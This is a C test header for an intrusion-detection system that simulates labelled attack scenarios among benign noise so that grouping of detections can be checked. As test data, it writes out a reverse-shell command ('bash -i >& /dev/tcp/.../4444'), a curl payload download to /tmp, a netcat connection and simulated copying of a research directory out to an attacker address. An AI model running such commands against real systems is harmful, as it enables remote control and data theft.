// SPDX-License-Identifier: Apache-2.0
// For tests of attempts: intrusions of which it is known what they are, of several clients, among thousands of other
// detections.
#pragma once
#include "attempt/attempt_test.h"

#define LABELS 512
#define NAMES 8192

struct truth {
    struct world w;
    uint64_t names[NAMES];
    unsigned label[NAMES]; // of each detection: its attempt
    size_t n;
    unsigned labels;
    uint64_t seed;
};

static __attribute__((unused)) uint64_t next(uint64_t *seed)
{
    *seed ^= *seed << 13;
    *seed ^= *seed >> 7;
    return *seed ^= *seed << 17;
}

static __attribute__((unused)) void note(struct truth *t, unsigned label, uint64_t name)
{
    assert_true(t->n < NAMES);
    t->names[t->n] = name;
    t->label[t->n++] = label;
}

static __attribute__((unused)) void ran(struct truth *t, unsigned label, Tiercel__Batch *b,
                                        uint32_t pid, uint32_t root, const char *command,
                                        bool denied)
{
    Tiercel__Event *e = wexec(&t->w, b, wprocess(&t->w, pid, root, command), denied);
    note(t, label, wdetect(&t->w, b, e, command, "execution"));
    if (denied)
        wverdict(&t->w, b, TIERCEL__ACTION__ACTION_DENY, true);
}

// A web shell, an hour later a tool from the same address in another request, with it to the next host.
static __attribute__((unused)) void web_shell_and_onwards(struct truth *t, const char *address)
{
    unsigned label = t->labels++;
    char command[96];
    Tiercel__Batch *b = wbatch(&t->w, 1, 1000);
    ran(t, label, b, 100, 100, "sh -c id", false);
    ran(t, label, b, 101, 100, "id", false);
    wconnect(&t->w, b, wprocess(&t->w, 102, 100, "curl"), address, 80);
    b = wbatch(&t->w, 1, 4600);
    snprintf(command, sizeof command, "bash -i >& /dev/tcp/%s/4444", address);
    ran(t, label, b, 200, 200, command, false);
    wflow(&t->w, b, wprocess(&t->w, 201, 200, "ssh"), true, "10.0.0.1", "10.0.0.2", 5);
    b = wbatch(&t->w, 2, 4601);
    wflow(&t->w, b, wprocess(&t->w, 22, 0, "sshd"), false, "10.0.0.2", "10.0.0.1", 5);
    b = wbatch(&t->w, 2, 4700);
    ran(t, label, b, 300, 300, "tar c /srv/research", false);
    b->detections[0]->n_tree = 1;
    b->detections[0]->tree = arena_zero(&t->w.arena, sizeof(void *));
    b->detections[0]->tree[0] = wprocess(&t->w, 22, 0, "sshd");
    wread(&t->w, b, wprocess(&t->w, 300, 300, "tar"), "/srv/research/formula");
    wflow(&t->w, wbatch(&t->w, 2, 4800), wprocess(&t->w, 300, 300, "tar"), true, "10.0.0.2",
          address, 1 << 20);
}

// At the same time below the same web server, from elsewhere; refused each time.
static __attribute__((unused)) void refused(struct truth *t, const char *address)
{
    unsigned label = t->labels++;
    char command[96];
    snprintf(command, sizeof command, "curl http://%s/x -o /tmp/x", address);
    for (uint32_t i = 0; i < 3; i++)
        ran(t, label, wbatch(&t->w, 1, 1000 + i), 400 + i, 400 + i, command, true);
}

// It comes back after two days: another attempt.
static __attribute__((unused)) void returning(struct truth *t, const char *address)
{
    for (uint32_t i = 0; i < 2; i++) {
        unsigned label = t->labels++;
        char command[96];
        snprintf(command, sizeof command, "nc %s 53", address);
        ran(t, label, wbatch(&t->w, 3, 2000 + i * 2 * 24 * 3600), 500 + i, 500 + i, command, false);
    }
}

// What is no intrusion: nightly jobs and people, loud, all with the same mirror.
static __attribute__((unused)) void others(struct truth *t, uint32_t lineages)
{
    for (uint32_t i = 0; i < lineages; i++) {
        unsigned label = t->labels++;
        uint32_t root = 10000 + i * 100;
        for (uint32_t k = 0; k < 8; k++) {
            Tiercel__Batch *b = wbatch(&t->w, (uint8_t)(1 + i % 3), 500 + i * 60 + k);
            for (uint32_t n = 0; n < 10; n++)
                ran(t, label, b, root + n, root, "curl http://198.51.100.7/list", false);
            wconnect(&t->w, b, wprocess(&t->w, root + 50, root, "curl"), "198.51.100.7", 80);
        }
    }
    for (uint32_t i = 0; i < 3; i++)
        wconnect(&t->w, wbatch(&t->w, 2, 900 + i), wprocess(&t->w, 90000 + i, 90000 + i, "apt"),
                 "198.51.100.7", 80);
}

static __attribute__((unused)) struct truth *client(unsigned number)
{
    struct truth *t = calloc(1, sizeof *t);
    char address[32];
    assert_non_null(t);
    t->w.arena.limit = (size_t)512 << 20;
    for (uint8_t host = 1; host <= 3; host++)
        wsees_all(&t->w, host);
    snprintf(address, sizeof address, "203.0.113.%u", number);
    web_shell_and_onwards(t, address);
    refused(t, "203.0.113.100");
    returning(t, "203.0.113.200");
    others(t, 42);
    t->seed = 0x9e3779b97f4a7c15u + number;
    return t;
}

static __attribute__((unused)) void client_free(struct truth *t)
{
    arena_done(&t->w.arena);
    free(t);
}

static __attribute__((unused)) unsigned label_of(const struct truth *t, uint64_t name)
{
    for (size_t i = 0; i < t->n; i++)
        if (t->names[i] == name)
            return t->label[i];
    fail_msg("a detection that nobody made");
    return 0;
}

static __attribute__((unused)) void print_all(const struct attempts *a, struct buf *out)
{
    for (size_t i = 0; i < attempts_count(a); i++)
        attempt_print_json(a, attempts_get(a, i), out);
    assert_int_equal(out->failed, 0);
}
